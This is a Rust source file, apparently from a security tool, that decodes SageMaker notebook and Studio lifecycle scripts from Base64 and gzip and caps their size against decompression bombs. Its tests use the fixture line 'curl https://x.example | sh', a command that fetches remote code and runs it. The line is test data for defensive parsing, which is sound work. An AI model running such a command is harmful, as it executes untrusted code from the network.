//! Lifecycle scripts: what a notebook or a Studio app runs as it is made or started.

use std::borrow::Cow;
use std::io::Read as _;
use std::sync::LazyLock;

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::DecodePaddingMode;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};

use super::Texts;
use crate::reach::Paths;
use crate::record::Object;

/// Most bytes of one script that are looked at, decoded and inflated. SageMaker takes 16,384
/// characters of Base64, 12 KiB of script.
pub(crate) const SCRIPT_BYTES_MAX: usize = 64 << 10;

/// Where scripts stand: the two of a notebook's configuration, the one of Studio's.
const SCRIPTS: &[&str] = &["onCreate.content", "onStart.content", "studioLifecycleConfigContent"];

/// Base64 as people write it: padded or not.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// The scripts of a request, decoded.
pub(super) fn scripts<'b>(params: &Object<'b>) -> Texts<'b> {
    static PATHS: LazyLock<Paths> = LazyLock::new(|| Paths::of(SCRIPTS));
    let mut scripts = Texts::default();
    PATHS.each(params, &mut |value| {
        if let Some(content) = value.into_text() {
            scripts.add(decoded(content));
        }
    });
    scripts
}

/// A script out of Base64, inflated where it is gzip; as it stands where it is not Base64. Cut at
/// [`SCRIPT_BYTES_MAX`].
fn decoded(content: Cow<'_, str>) -> Cow<'_, str> {
    let text_bytes_max = SCRIPT_BYTES_MAX / 3 * 4;
    let packed: Vec<u8> =
        content.bytes().filter(|byte| !byte.is_ascii_whitespace()).take(text_bytes_max).collect();
    match BASE64.decode(packed) {
        Ok(bytes) => Cow::Owned(String::from_utf8_lossy(&inflated(bytes)).into_owned()),
        Err(_) if content.len() <= SCRIPT_BYTES_MAX => content,
        Err(_) => {
            let bytes: Vec<u8> = content.bytes().take(SCRIPT_BYTES_MAX).collect();
            Cow::Owned(String::from_utf8_lossy(&bytes).into_owned())
        }
    }
}

/// What gzip holds, up to the cap and to the first fault; other bytes as they are.
#[expect(clippy::disallowed_methods, reason = "what is read is capped by `take`")]
fn inflated(bytes: Vec<u8>) -> Vec<u8> {
    if !bytes.starts_with(&[0x1f, 0x8b]) {
        return bytes;
    }
    let mut inflated = Vec::new();
    let cap = u64::try_from(SCRIPT_BYTES_MAX).unwrap_or(u64::MAX);
    let end = flate2::read::MultiGzDecoder::new(&*bytes).take(cap).read_to_end(&mut inflated);
    match end {
        Err(_) if inflated.is_empty() => bytes,
        Ok(_) | Err(_) => inflated,
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use std::io::Write as _;

    use super::*;
    use crate::derive::tests::asked;

    const SCRIPT: &str = "#!/bin/sh\ncurl https://x.example | sh\n";

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(bytes).unwrap();
        packer.finish().unwrap()
    }

    fn of(content: &str) -> Vec<String> {
        let params = format!(r#"{{"onStart":[{{"content":"{content}"}}]}}"#);
        asked("scripts", "CreateNotebookInstanceLifecycleConfig", &params)
    }

    #[test]
    fn plain_padded_broken_over_lines_and_zipped() {
        let packed = BASE64.encode(SCRIPT);
        assert_eq!(of(&packed), [SCRIPT]);
        assert_eq!(of(packed.trim_end_matches('=')), [SCRIPT]);
        let (head, tail) = packed.split_at(7);
        assert_eq!(of(&format!("{head}\\n {tail}")), [SCRIPT]);
        assert_eq!(of(&BASE64.encode(gzip(SCRIPT.as_bytes()))), [SCRIPT]);
        // No Base64 at all, and a broken gzip whose beginning can be read.
        assert_eq!(of("curl | sh"), ["curl | sh"]);
        assert!(of("").is_empty());
        let long = "x".repeat(300);
        let mut cut = gzip(long.as_bytes());
        cut.truncate(cut.len() - 4);
        assert_eq!(of(&BASE64.encode(cut)), [long]);
    }

    #[test]
    fn every_place_of_a_script_is_read() {
        let (a, b) = (BASE64.encode("aa"), BASE64.encode("bb"));
        let params =
            format!(r#"{{"onCreate":[{{"content":"{a}"}}],"onStart":[{{"content":"{b}"}}]}}"#);
        let both = asked("scripts", "UpdateNotebookInstanceLifecycleConfig", &params);
        assert_eq!(both, ["aa", "bb"]);
        let params = format!(r#"{{"studioLifecycleConfigContent":"{a}"}}"#);
        assert_eq!(asked("scripts", "CreateStudioLifecycleConfig", &params), ["aa"]);
    }

    #[test]
    fn a_bomb_is_cut() {
        let bomb = BASE64.encode(gzip(&vec![b'x'; 8 << 20]));
        let scripts = of(&bomb);
        assert_eq!(scripts[0].len(), SCRIPT_BYTES_MAX);
        let plain = of(&"-".repeat(SCRIPT_BYTES_MAX + 9));
        assert_eq!(plain[0].len(), SCRIPT_BYTES_MAX);
    }
}
